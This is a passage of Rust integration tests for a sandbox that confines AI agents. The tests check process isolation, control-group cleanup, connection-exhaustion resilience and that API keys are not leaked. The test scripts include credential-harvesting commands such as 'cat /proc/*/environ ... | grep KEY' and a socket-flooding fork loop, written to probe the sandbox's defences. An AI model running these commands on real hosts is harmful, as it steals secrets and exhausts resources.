fn the_operators_command_line_is_not_shown_inside() {
    let scene = Scene::new()
        .with("--env", "TOLD=told-to-the-agent")
        .with("--resolve", "internal-host.test=127.0.0.1:9");
    let shown = scene.sh("tr '\\0' ' ' </proc/1/cmdline").ok();
    assert!(!shown.stdout.contains("internal-host") && !shown.stdout.contains("record"), "{}", shown.stdout);
}

const LIMITED: &str = "process: { limits: { processes: 100, memory: 512MiB, cpus: 1 } }";

/// Every control group of a process.
fn groups(pid: u32) -> Vec<PathBuf> {
    let named =
        |path: &Path| path.file_name().is_some_and(|name| name.to_string_lossy().starts_with("creel-"));
    let text = fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap_or_default();
    text.lines()
        .filter_map(|line| {
            let mut fields = line.splitn(3, ':').skip(1);
            let (controllers, path) = (fields.next()?, fields.next()?.trim_start_matches('/'));
            let controllers = controllers.strip_prefix("name=").unwrap_or(controllers);
            Some(Path::new("/sys/fs/cgroup").join(controllers).join(path))
        })
        .filter(|path| named(path))
        .collect()
}

fn child(pid: u32) -> u32 {
    let text = fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
    text.split_whitespace().next().and_then(|pid| pid.parse().ok()).unwrap_or(0)
}

#[test]
fn a_killed_warden_leaves_no_process_and_in_time_no_control_group() {
    let scene = Scene::new().policy(LIMITED);
    let mut running: Running = scene.start(&["/bin/sh", "-c", "sleep 2718 & setsid sleep 2718 & sleep 2718"]);
    let init = child(running.pid());
    let mut left = groups(init);
    running.kill();
    wait_until("the sandbox to be gone", || {
        fs::read_to_string(format!("/proc/{init}/stat")).map_or(true, |stat| stat.contains(") Z"))
    });
    drop(running);
    // What nobody was there to remove is removed by the next start at the latest.
    Scene::new().policy(LIMITED).run(&["/bin/true"]).ok();
    wait_until("the control groups to be gone", || {
        left.retain(|group| group.exists());
        left.is_empty()
    });
}

#[test]
fn the_owner_is_answered_while_the_agent_holds_every_connection() {
    let upstream = Upstream::start(&["api.test"]);
    let scene = Scene::new()
        .policy("network:\n  rules:\n    - { name: api, to: [\"api.test:80\"] }")
        .with("--resolve", format!("api.test={}", upstream.plain));
    let script = "
import os, resource, socket, time
for _ in range(4):
    if os.fork() == 0:
        kept = []
        for _ in range(400):
            s = socket.socket(); s.setblocking(False)
            try: s.connect(('api.test', 80))
            except OSError: pass
            try: s.send(b'GET / HTTP/1.1')
            except OSError: pass
            kept.append(s)
        open(f'held{os.getpid()}', 'w'); time.sleep(30)
time.sleep(30)
";
    let command = scene.command();
    let mut limited = Command::new("/bin/sh");
    limited
        .args(["-c", "ulimit -n 512; exec \"$@\"", "sh"])
        .arg(command.get_program())
        .args(command.get_args());
    limited.args(["/usr/bin/env", "python3", "-c", script]);
    for (key, value) in command.get_envs() {
        value.map(|value| limited.env(key, value));
    }
    let mut child = limited.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    wait_until("the agent to hold what it can", || {
        fs::read_dir(scene.workspace())
            .unwrap()
            .flatten()
            .filter(|e| e.file_name().to_string_lossy().starts_with("held"))
            .count()
            == 4
    });
    let mut listed = scene.creel();
    let mut listed = listed.arg("ps").stdout(Stdio::piped()).spawn().unwrap();
    std::thread::sleep(Duration::from_secs(2));
    let answered = listed.try_wait().unwrap().is_some();
    let _ = listed.kill();
    let mut text = String::new();
    listed.stdout.take().unwrap().read_to_string(&mut text).unwrap();
    let _ = (listed.wait(), child.kill(), child.wait());
    assert!(answered && text.contains(&scene.name), "creel ps: {text}");
}

#[test]
fn executing_much_does_not_fill_the_disk() {
    let scene = Scene::new();
    let script = "
import os
arguments = ['true'] + ['a' * 4000] * 127
for _ in range(100):
    if os.fork() == 0: os.execv('/bin/true', arguments)
    os.wait()
";
    scene.python(script).ok();
    let size = fs::metadata(scene.record()).unwrap().len();
    assert!(size < 2 << 20, "100 commands made a record of {size} bytes");
}

// --- models --------------------------------------------------------------------------------------------------------

/// A backend that gives back every header and body it gets.
fn echo() -> (u16, Arc<Mutex<String>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let (port, seen) = (listener.local_addr().unwrap().port(), Arc::new(Mutex::new(String::new())));
    let log = Arc::clone(&seen);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut buffer = vec![0; 64 * 1024];
            let length = stream.read(&mut buffer).unwrap();
            let text = String::from_utf8_lossy(&buffer[..length]).into_owned();
            log.lock().unwrap().push_str(&text);
            let auth = text
                .lines()
                .find(|l| l.to_lowercase().starts_with("authorization"))
                .unwrap_or_default()
                .to_owned();
            let head = format!(
                "HTTP/1.1 401 Unauthorized\r\nX-Echo: {auth}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                auth.len()
            );
            stream.write_all(format!("{head}{auth}").as_bytes()).unwrap();
        }
    });
    (port, seen)
}

#[test]
fn a_key_that_a_backend_echoes_does_not_reach_the_agent() {
    let (port, seen) = echo();
    let scene = Scene::new().policy(&format!(
        "inference:\n  backends:\n    - {{ name: acme, base_url: \"http://127.0.0.1:{port}/v1\", key: \"env:ESCAPE_TEST_KEY\", api: openai }}\n  models: {{ default: [\"acme/*\"] }}"
    ));
    let script = "curl -sS -i -H 'content-type: application/json' -d '{\"model\":\"m\",\"messages\":[]}' http://inference.local/v1/chat/completions; \
                  cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep KEY";
    let mut command = scene.command();
    let shown = Shown::from(
        command.env("ESCAPE_TEST_KEY", "sk-Value0f5ecret").args(["/bin/sh", "-c", script]).output().unwrap(),
    );
    assert!(seen.lock().unwrap().contains("sk-Value0f5ecret"), "the backend gets the key: {shown:?}");
    assert!(shown.stdout.contains("401") && !shown.stdout.contains("sk-Value0f5ecret"), "{shown:?}");
    assert!(!fs::read_to_string(scene.record()).unwrap().contains("sk-Value0f5ecret"));
}
